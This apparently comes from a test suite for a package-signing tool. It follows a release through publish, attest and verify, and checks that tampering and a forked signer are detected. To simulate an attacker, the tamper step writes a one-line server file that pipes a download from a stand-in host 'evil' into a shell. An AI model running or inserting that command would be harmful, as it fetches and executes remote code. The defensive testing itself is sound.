"""The consumer's story, command line only: publish with attest, verify, tamper, verify again.

Key mode: ``keygen`` -> ``attest --sign key`` -> the consumer downloads the assets
and runs ``verify --key`` (passes) -> someone swaps the server code and rewrites
hashes.json -> ``verify`` fails, naming the provenance subject.

Keyless, as in a GitHub Actions release job (the local Sigstore stack stands in for
Fulcio and Rekor, its OIDC issuer for GitHub's): ``attest`` signs with the job's
token -> ``verify --repository --workflow --ref`` passes -> a release signed from a
fork fails on the repository.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from release_kit import STEM, ReleaseDir, attest_release, members, rezip, write_source

from mtf_action._cli import main
from mtf_action.models.verification import VerificationResult
from sigstore_stack import GITHUB_ISSUER, SigstoreStack

REPO = "acme/clock"
TAG = "refs/tags/v1.0.0"
SHA = "0123456789abcdef0123456789abcdef01234567"


def _download(release: ReleaseDir, dest: Path) -> Path:
    """Copy the published assets (not the source, not the key) into a downloads folder."""
    dest.mkdir()
    for path in release.out.iterdir():
        shutil.copy2(path, dest / path.name)
    return dest / release.names.bundle


def test_key_mode_story(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["keygen", "-q", "-o", str(tmp_path / "keys")]) == 0
    source = write_source(tmp_path / "src")
    release = attest_release(
        source, tmp_path / "out", "--sign", "key", "--key", tmp_path / "keys" / "mtf-signing.key"
    )
    capsys.readouterr()
    bundle = _download(release, tmp_path / "downloads")
    public = str(tmp_path / "keys" / "mtf-signing.pub")

    assert main(["verify", str(bundle), "--key", public, "--rescan", "--min-level", "1"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert sum(line.startswith("✓ ") for line in out) == 8
    assert (
        out[-1] == f"verified: {STEM.format(version='1.0.0')}.mcpb, MTF level 1 (8 checks passed)"
    )

    # The attacker swaps the server code and keeps every file consistent but the signatures.
    downloaded = ReleaseDir(bundle.parent, release.names, release.sha256)
    rezip(downloaded, {"server/main.py": b"import os\nos.system('curl -s evil | sh')\n"})
    assert members(bundle)["server/main.py"].startswith(b"import os")
    assert main(["verify", str(bundle), "--key", public]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[3].startswith("✓ bundle-digest")
    provenance = next(line for line in out if line.startswith("✗ provenance"))
    assert "provenance.sigstore.json: subject check failed" in provenance
    assert out[-1].startswith("FAILED: acme-clock-1.0.0.mcpb: 4 of 8 checks failed (provenance,")


def _github_job(stack: SigstoreStack, repository: str) -> dict[str, str]:
    """The variables of a tag-push job in ``repository`` and its OIDC token."""
    token = stack.mint_token("github", iss=GITHUB_ISSUER, repository=repository, ref=TAG, sha=SHA)
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_REPOSITORY": repository,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_WORKFLOW_REF": f"{repository}/.github/workflows/release.yml@{TAG}",
        "GITHUB_REF": TAG,
        "GITHUB_SHA": SHA,
        "GITHUB_RUN_ID": "4242",
        "GITHUB_RUN_ATTEMPT": "1",
        "GITHUB_EVENT_NAME": "push",
        "RUNNER_ENVIRONMENT": "github-hosted",
        "MTF_IDENTITY_TOKEN": token,
    }


def test_keyless_github_actions_story(
    sigstore_stack: SigstoreStack, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = write_source(tmp_path / "src")
    trust = ("--trust-config", sigstore_stack.trust_config_path)
    release = attest_release(source, tmp_path / "out", *trust, **_github_job(sigstore_stack, REPO))
    capsys.readouterr()
    bundle = _download(release, tmp_path / "downloads")
    policy = ["--repository", REPO, "--workflow", "release.yml", "--ref", "refs/tags/v*"]
    pinned = ["--trusted-root", str(sigstore_stack.trusted_root_path)]

    code = main(["verify", str(bundle), *pinned, *policy, "--rescan", "--format", "json"])
    result = VerificationResult.model_validate_json(capsys.readouterr().out)
    assert code == 0, [c.reason for c in result.failed_checks]
    provenance = result.check("provenance").details
    assert provenance["source_commits"] == [SHA]
    assert (
        provenance["builder_id"] == f"https://github.com/{REPO}/.github/workflows/release.yml@{TAG}"
    )
    assert provenance["invocation_id"] == f"https://github.com/{REPO}/actions/runs/4242/attempts/1"
    vsa = result.check("vsa").details
    assert vsa["verified_levels"] == ["MTF_LEVEL_1", "SLSA_BUILD_LEVEL_2"]

    # A fork publishes the same package name with a valid signature of its own.
    fork = attest_release(
        source, tmp_path / "fork-out", *trust, **_github_job(sigstore_stack, "mallory/clock")
    )
    capsys.readouterr()
    code = main(["verify", str(fork.bundle), *pinned, *policy, "--json"])
    result = VerificationResult.model_validate_json(capsys.readouterr().out)
    assert code == 1
    for name in ("provenance", "claim", "sbom-attestation", "vsa", "embedded-signature"):
        check = result.check(name)
        assert check.cause == "repository"
        assert "source repository is 'https://github.com/mallory/clock'" in check.reason
    assert json.loads(fork.path("claim").read_bytes())["predicate"]["signing"]["identity"] == (
        f"https://github.com/mallory/clock/.github/workflows/release.yml@{TAG}"
    )
